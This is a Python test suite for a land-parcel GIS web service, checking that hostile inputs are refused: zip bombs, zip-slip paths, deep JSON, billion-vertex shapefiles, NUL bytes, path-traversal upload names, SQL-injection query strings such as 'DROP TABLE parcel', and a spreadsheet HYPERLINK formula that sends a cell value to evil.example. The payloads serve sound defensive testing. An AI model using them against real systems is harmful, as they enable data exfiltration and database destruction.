"""Hostile input (issue 9, bullet 4): bodies, uploads, query caps, injection, formulas.

Every hostile request must end in a 4xx problem (or a refused import report) naming what
was wrong, never a 500, and must leave the database and the file system untouched.
"""

from __future__ import annotations

import csv
import io
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest
import shapely
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Connection, Engine, create_engine, text
from sqlalchemy.pool import NullPool

from api.app import create_app
from parkgis import access, db
from parkgis.config import get_settings
from parkgis.errors import ValidationError
from parkgis.ingest import import_file
from parkgis.ingest.limits import check_json_depth, safe_upload_name
from tests import park
from tests.conftest import _create_from_template, _drop
from tests.ingest import files

PARCELS = 6
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@dataclass
class Site:
    """A committed small park with an admin and a land-bureau key."""

    engine: Engine
    admin: str
    clerk: str

    def client(self, key: str | None = None) -> TestClient:
        """A TestClient, with ``key`` when given."""
        client = TestClient(create_app(engine=self.engine))
        if key:
            client.headers["X-API-Key"] = key
        return client


@pytest.fixture(scope="module")
def site(template_name: str) -> Iterator[Site]:
    """Its own database: six parcels (one, and a firm, named like a formula), two keys."""
    name = _create_from_template(template_name)
    engine = create_engine(db.database_url(database=name), poolclass=NullPool)
    with engine.begin() as conn:
        db.set_actor(conn, "pytest")
        for i in range(4):
            park.parcel(conn, f"H-{i}", 150 * i, 0)
        park.parcel(conn, FORMULA, 0, 200)
        firm = park.firm(conn, FORMULA)
        park.parcel(conn, "H-idle", 150, 200, status="idle", idle_since="2023-01-01",
                    holder_firm_id=firm)  # fmt: skip
        admin = access.create_user(conn, "hostile_admin", "admin")[1]
        clerk = access.create_user(conn, "hostile_clerk", "land_bureau")[1]
    yield Site(engine, admin, clerk)
    engine.dispose()
    _drop(name)


def _parcels(conn: Connection) -> int:
    return int(conn.execute(text("SELECT count(*) FROM parcel")).scalar_one())


def _messages(report: object) -> str:
    return " | ".join(f"{i.message} {i.message_en}" for i in report.errors)  # type: ignore[attr-defined]


def _geojson_parcel(path: Path) -> Path:
    files.write_geo(
        path,
        [{"DKBH": "J-1", "TDYT": "1001", "TDZT": "available"}],
        [files.rect(0, 0, 30)],
        4490,
        driver="GeoJSON",
    )
    return path


# --- archives -------------------------------------------------------------------------


def _bomb(path: Path, member: str = "parcels.csv", mb: int = 60) -> Path:
    """A zip of ``mb`` MB of zeros (ratio ~1000:1): small on the wire, huge on disk."""
    chunk = b"0" * 1_000_000
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf,
        zf.open(member, "w") as out,
    ):
        for _ in range(mb):
            out.write(chunk)
    return path


def test_zip_bomb_is_refused_before_extracting(conn: Connection, tmp_path: Path) -> None:
    bomb = _bomb(tmp_path / "bomb.zip")
    assert bomb.stat().st_size < 1_000_000
    before = _parcels(conn)
    report = import_file(conn, "parcels", bomb)
    assert report.status == "refused"
    assert "压缩炸弹" in _messages(report) and "zip bomb" in _messages(report)
    assert _parcels(conn) == before
    # The extension does not matter: the bytes say zip, the same limits apply.
    liar = tmp_path / "parcels.csv"
    liar.write_bytes(bomb.read_bytes())
    assert "zip bomb" in _messages(import_file(conn, "parcels", liar))


def test_xlsx_bomb_is_refused(conn: Connection, tmp_path: Path) -> None:
    bomb = _bomb(tmp_path / "ledger.xlsx", member="xl/worksheets/sheet1.xml")
    report = import_file(conn, "parcels", bomb)
    assert report.status == "refused" and "zip bomb" in _messages(report)


@pytest.mark.parametrize("member", ["../../evil.geojson", "/tmp/evil.geojson", "a/../../e.csv"])
def test_zip_slip_member_is_refused(conn: Connection, tmp_path: Path, member: str) -> None:
    archive = tmp_path / "slip.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr(member, _geojson_parcel(tmp_path / "one.geojson").read_bytes())
    report = import_file(conn, "parcels", archive)
    assert report.status == "refused"
    assert "zip slip" in _messages(report)
    assert not (tmp_path.parent / "evil.geojson").exists()


def test_archive_with_too_many_members_is_refused(conn: Connection, tmp_path: Path) -> None:
    archive = tmp_path / "many.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        for i in range(1001):
            zf.writestr(f"f{i}.txt", b"x")
    assert "too many members" in _messages(import_file(conn, "parcels", archive))


# --- GeoJSON nesting --------------------------------------------------------------------


def test_geojson_nested_10000_deep_is_refused(conn: Connection, tmp_path: Path) -> None:
    deep = tmp_path / "deep.geojson"
    deep.write_text(
        '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},'
        '"geometry":{"type":"Polygon","coordinates":' + "[" * 10_000 + "]" * 10_000 + "}}]}"
    )
    report = import_file(conn, "parcels", deep)
    assert report.status == "refused"
    assert "nested deeper than 64" in _messages(report)


def test_brackets_and_escapes_inside_strings_do_not_count(tmp_path: Path) -> None:
    path = tmp_path / "strings.json"
    path.write_text('{"a": "' + "[" * 500 + '\\" \\\\", "b": [[["' + "{" * 100 + '"]]]}')
    check_json_depth(path)  # depth 4: accepted
    path.write_text('{"a": "\\\\"' + ", " + '"b": ' + "[" * 70 + "]" * 70 + "}")
    with pytest.raises(ValidationError):
        check_json_depth(path)


def test_json_body_nested_deep_gets_4xx(site: Site) -> None:
    client = site.client(site.admin)
    body = "[" * 10_000 + "]" * 10_000
    for path in ("/match", "/repairs/plan", "/enquiries"):
        got = client.post(path, content=body, headers={"Content-Type": "application/json"})
        assert 400 <= got.status_code < 500, (path, got.status_code, got.text[:300])


# --- vertices ---------------------------------------------------------------------------


def _billion_vertex_shapefile(folder: Path) -> Path:
    shp = folder / "宗地.shp"
    files.write_geo(
        shp,
        [{"DKBH": f"V-{i}", "TDYT": "1001", "TDZT": "available"} for i in range(3)],
        [files.rect(40 * i, 0, 30) for i in range(3)],
        4548,
    )
    data = bytearray(shp.read_bytes())
    # Third record: header 8 bytes + shape type 4 + bbox 32 + numParts 4, then numPoints.
    pos = 100
    for _ in range(2):
        pos += 8 + 2 * struct.unpack(">i", data[pos + 4 : pos + 8])[0]
    data[pos + 8 + 40 : pos + 8 + 44] = struct.pack("<i", 1_000_000_000)
    shp.write_bytes(bytes(data))
    return shp


def test_shapefile_declaring_a_billion_vertices_is_refused_naming_the_row(
    conn: Connection, tmp_path: Path
) -> None:
    shp = _billion_vertex_shapefile(tmp_path)
    report = import_file(conn, "parcels", shp)
    assert report.status == "refused"
    [error] = report.errors
    assert error.row == 3 and error.field == "geometry"
    assert "第 3 行" in error.message and "1000000000" in error.message


def test_polygon_over_the_vertex_cap_is_refused_naming_the_row(
    conn: Connection, tmp_path: Path
) -> None:
    angles = np.linspace(0, 2 * np.pi, 1_000_010)
    coords = np.c_[
        park.ORIGIN_X + 500 + 200 * np.cos(angles), park.ORIGIN_Y + 500 + 200 * np.sin(angles)
    ]
    ring = shapely.Polygon(coords)
    assert shapely.get_num_coordinates(ring) > 1_000_000
    path = tmp_path / "dense.fgb"
    files.write_geo(
        path,
        [{"DKBH": "D-1", "TDYT": "1001", "TDZT": "available"}] * 2,
        [files.rect(0, 0, 30), ring],
        4548,
        driver="FlatGeobuf",
        layer_options={"SPATIAL_INDEX": "NO"},  # keep file order = row order
    )
    report = import_file(conn, "parcels", path)
    assert [e.row for e in report.errors] == [2]
    assert "too many vertices" in _messages(report)


# --- uploads over HTTP ------------------------------------------------------------------


def test_request_body_over_the_cap_is_413(site: Site) -> None:
    settings = get_settings().model_copy(update={"max_body_mb": 1})
    client = TestClient(create_app(settings=settings, engine=site.engine))
    client.headers["X-API-Key"] = site.clerk
    upload = {"files": ("big.csv", b"a,b\n" + b"1,2\n" * 400_000, "text/csv")}
    got = client.post("/imports", data={"layer": "parcels"}, files=upload)
    assert got.status_code == 413
    assert got.headers["content-type"] == "application/problem+json"
    assert "上传内容过大" in got.json()["message"]


@pytest.mark.parametrize("name", ["..", ".", "../", "/", "x" * 300 + ".geojson"])
def test_unusable_upload_names_are_4xx(site: Site, tmp_path: Path, name: str) -> None:
    client = site.client(site.clerk)
    body = _geojson_parcel(tmp_path / "one.geojson").read_bytes()
    got = client.post(
        "/imports", data={"layer": "parcels", "dry_run": "true"}, files={"files": (name, body)}
    )
    assert 400 <= got.status_code < 500, got.text


def test_upload_name_with_a_path_lands_in_the_upload_folder(site: Site, tmp_path: Path) -> None:
    assert safe_upload_name("../../../etc/cron.d/parcels.geojson") == "parcels.geojson"
    assert safe_upload_name("C:\\Users\\clerk\\宗地.zip") == "宗地.zip"
    client = site.client(site.clerk)
    body = _geojson_parcel(tmp_path / "one.geojson").read_bytes()
    got = client.post(
        "/imports",
        data={"layer": "parcels", "dry_run": "true"},
        files={"files": ("../../../../tmp/owned.geojson", body)},
    )
    assert got.status_code == 200, got.text
    assert got.json()["source"] == "owned.geojson"
    assert not Path("/tmp/owned.geojson").exists()


def test_binary_with_a_data_extension_is_refused(conn: Connection, tmp_path: Path) -> None:
    elf = tmp_path / "parcels.csv"
    elf.write_bytes(b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 600)
    report = import_file(conn, "parcels", elf)
    assert report.status == "refused" and "unrecognised file format" in _messages(report)


# --- query caps and injection -----------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "limit=10001",
        "limit=-1",
        "limit=99999999999999999999",
        "offset=-5",
        "offset=99999999999999999999",
        "bbox=1,2,3",
        "bbox=1,2,3,4,5",
        "bbox=nan,0,1,1",
        "bbox=0,0,inf,1",
        "bbox=117,34,116,33",
        "bbox=-1e308,-1e308,1e308,1e308",
        "bbox-crs=http://evil/../../etc/passwd&bbox=0,0,1,1",
        "crs=EPSG:4326;DROP TABLE parcel",
        "sortby=plot_no;DROP TABLE parcel",
        'properties=plot_no,"geom"--',
        "plot_no;DROP=1",
        "filter=plot_no = 'a'; DROP TABLE parcel; --",
        'filter="plot_no""; DROP TABLE parcel; --" = \'a\'',
        "filter=" + "(" * 5000 + "plot_no = 'a'" + ")" * 5000,
        "filter=" + "NOT " * 5000 + "plot_no = 'a'",
        "filter=plot_no LIKE '" + "%_" * 5000 + "'",
    ],
)
def test_items_parameters_are_capped_and_never_injected(site: Site, query: str) -> None:
    client = site.client()
    got = client.get(f"/collections/parcels/items?{query}")
    assert got.status_code in (200, 400, 422), (query, got.status_code, got.text[:300])
    if got.status_code != 200:
        assert got.headers["content-type"].startswith("application/problem+json")
    with site.engine.connect() as c:
        assert int(c.execute(text("SELECT count(*) FROM parcel")).scalar_one()) == PARCELS


def test_quoted_values_are_data_not_sql(site: Site) -> None:
    client = site.client()
    for query in (
        "filter=plot_no = 'x'' OR ''1''=''1'",
        "plot_no=x' OR '1'='1",
    ):
        got = client.get(f"/collections/parcels/items?{query}")
        assert got.status_code == 200, got.text
        assert got.json()["features"] == []
    hit = client.get("/collections/parcels/items", params={"plot_no": FORMULA})
    assert [f["properties"]["plot_no"] for f in hit.json()["features"]] == [FORMULA]


def test_export_where_cannot_inject(site: Site) -> None:
    client = site.client(site.admin)
    for where in ("plot_no=x' OR 1=1 --", "plot_no;DROP TABLE parcel=1", "1=1"):
        got = client.get("/exports/parcels.csv", params={"where": where})
        assert got.status_code in (200, 400, 422), (where, got.text[:300])
        if got.status_code == 200:
            assert got.text.count("\n") == 1  # header only
    with site.engine.connect() as c:
        assert int(c.execute(text("SELECT count(*) FROM parcel")).scalar_one()) == PARCELS


# --- formula injection in exports -------------------------------------------------------


def test_csv_and_xlsx_exports_quote_formulas(site: Site) -> None:
    client = site.client(site.admin)
    got = client.get("/exports/parcels.csv")
    assert got.status_code == 200
    rows = list(csv.DictReader(io.StringIO(got.content.decode("utf-8-sig"))))
    cells = [v for r in rows for v in r.values() if v]
    assert "'" + FORMULA in cells
    assert not any(v.startswith(("=", "+", "@")) for v in cells)
    book = load_workbook(io.BytesIO(client.get("/exports/parcels.xlsx").content))
    values = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert "'" + FORMULA in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)


# --- NUL characters (PostgreSQL text cannot hold them) ----------------------------------


def test_nul_in_query_or_path_is_400(site: Site) -> None:
    client = site.client(site.admin)
    for url in ("/map/search?q=a%00b", "/collections/parcels/items?plot_no=%00", "/cases/1%00"):
        got = client.get(url)
        assert got.status_code == 400, (url, got.text)
        assert got.json()["message_en"].startswith("NUL")


def test_nul_in_json_bodies_is_4xx(site: Site) -> None:
    client = site.client(site.admin)
    enquiry = {"investor_name": "a\u0000b", "industry_code": "C34", "site_kind": "either"}
    for path, body in (
        ("/enquiries", enquiry),
        ("/match", enquiry),
        ("/cases", {"debtor_firm_id": 1, "procedure": "liquidation", "applied_on": "2025-01-01",
                    "case_no": "\u0000"}),
    ):  # fmt: skip
        got = client.post(path, json=body)
        assert 400 <= got.status_code < 500, (path, got.status_code, got.text[:300])


def test_ledgers_quote_formulas(site: Site) -> None:
    client = site.client(site.admin)
    got = client.get("/land/idle", params={"format": "xlsx"})
    assert got.status_code == 200, got.text
    book = load_workbook(io.BytesIO(got.content))
    values = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert "'" + FORMULA in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
